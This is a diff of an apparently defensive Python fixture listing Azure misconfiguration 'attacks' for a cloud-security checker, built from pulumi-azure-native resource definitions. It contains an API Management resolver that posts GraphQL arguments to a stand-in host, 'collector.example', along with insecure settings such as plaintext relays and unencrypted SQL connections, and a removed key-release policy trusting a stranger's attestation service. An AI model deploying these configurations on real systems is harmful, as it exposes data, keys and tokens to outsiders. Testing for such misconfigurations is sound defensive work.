@@ -5,9 +5,6 @@ Properties by pulumi-azure-native 3.29.0. Read on 2026-11-29: PowerShell Gallery
 "get-authorization-context" and authorizations/accessPolicies; RaiMonitorConfig); all other pages as known.
 """
 
-import base64
-import json
-
 from ..blind import GROUP, HERE, OURS, RG, SUB, TAGS, THEIR_TENANT, THEIRS, az
 from ..harness import UNKNOWN
 from ..idioms.fourth_kubernetes import AZURE_BUDGET
@@ -20,9 +17,6 @@ STRANGER_HOST = "collector.example"
 PRINCIPAL = "22222222-2222-3333-4444-555555555555"
 BILLING = "00000000-0000-0000-0000-000000000003"
 CENTER_ADMINISTRATOR = f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/a6333a3e-0164-44c3-b281-7a577aff287f"
-RELEASE = base64.urlsafe_b64encode(json.dumps({"version": "1.0.0", "anyOf": [{
-    "authority": "https://collector.weu.attest.azure.net",
-    "allOf": [{"claim": "x-ms-attestation-type", "equals": "sevsnpvm"}]}]}).encode()).decode()  # fmt: skip
 RESOLVER = f"""<http-data-source><http-request><set-method>POST</set-method>
 <set-url>https://graph.{STRANGER_HOST}/customer</set-url>
 <set-body>@(context.GraphQL.Arguments["id"].ToString())</set-body></http-request></http-data-source>"""
@@ -66,15 +60,10 @@ ATTACKS = (
             **RG, "serviceName": "apim-bank", "authorizationProviderId": "mail", "authorizationId": "bank",
             "authorizationAccessPolicyId": PRINCIPAL, "tenantId": THEIR_TENANT, "objectId": PRINCIPAL}),),
         "critical", "it acts as the bank where the token counts (API Management, accessPolicies of authorizations)"),
-    Attack("a key is released to machines that a stranger vouches for", ("FJ-ENC-", "FJ-IDN-", "FJ-RES-"), (
-        az("keyvault:Key", {
-            **RG, "vaultName": "kv-bank", "keyName": "orders", "tags": TAGS, "properties": {
-                "kty": "RSA-HSM", "keySize": 3072, "keyOps": ["wrapKey", "unwrapKey"],
-                "attributes": {"enabled": True, "exportable": True, "expires": 1811808000},
-                "rotationPolicy": {"lifetimeActions": [{"action": {"type": "rotate"}, "trigger": {
-                    "timeAfterCreate": "P90D"}}], "attributes": {"expiryTime": "P365D"}},
-                "releasePolicy": {"contentType": "application/json; charset=utf-8", "data": RELEASE}}}),),
-        "critical", "the stranger has the key and with it the data (Key Vault, 'Secure key release policy grammar')"),
+    Attack("a relay takes messages in plain text", ("FJ-ENC-", "FJ-EXP-"), (az("relay:WCFRelay", {
+        **RG, "namespaceName": "relay-bank", "relayName": "core", "relayType": "NetTcp",
+        "requiresClientAuthorization": True, "requiresTransportSecurity": False}),),
+        "major", "tokens and messages cross the internet readable (Azure Relay, requiresTransportSecurity)"),
     Attack("administrators of the private cloud are whoever a stranger names", ("FJ-RES-", "FJ-IDN-", "FJ-ESC-"), (
         az("avs:ScriptExecution", {
             **RG, "privateCloudName": "avs", "scriptExecutionName": "identity", "timeout": "PT30M",
@@ -149,7 +138,7 @@ ATTACKS = (
             "sourceSqlConnection": {"dataSource": "10.0.0.4", "authentication": "SqlAuthentication",
                                     "userName": "mover", "encryptConnection": False,
                                     "trustServerCertificate": True}}}),),
-        "major", "rows and the password cross the line in clear (Database Migration Service, SqlConnectionInformation)"),
+        "major", "rows and the password are readable (Database Migration Service, SqlConnectionInformation)"),
     Attack("what is asked of a model is kept in a stranger's account", RES, (az("cognitiveservices:Account", {
         **HERE, "accountName": "oai-bank", "kind": "OpenAI", "sku": {"name": "S0"},
         "identity": {"type": "SystemAssigned"}, "properties": {
@@ -180,5 +169,5 @@ ATTACKS = (
             "associatedTenantName": THEIR_TENANT, "tags": TAGS, "properties": {
                 "displayName": "Partner", "tenantId": THEIR_TENANT, "billingManagementState": "Active",
                 "provisioningManagementState": "Active"}}),),
-        "critical", "his people buy, and read each invoice (Microsoft Cost Management, 'Associated billing tenants')"),
+        "major", "his people may be given rights to buy and to read invoices (Cost Management, 'Associated billing tenants')"),
 )  # fmt: skip
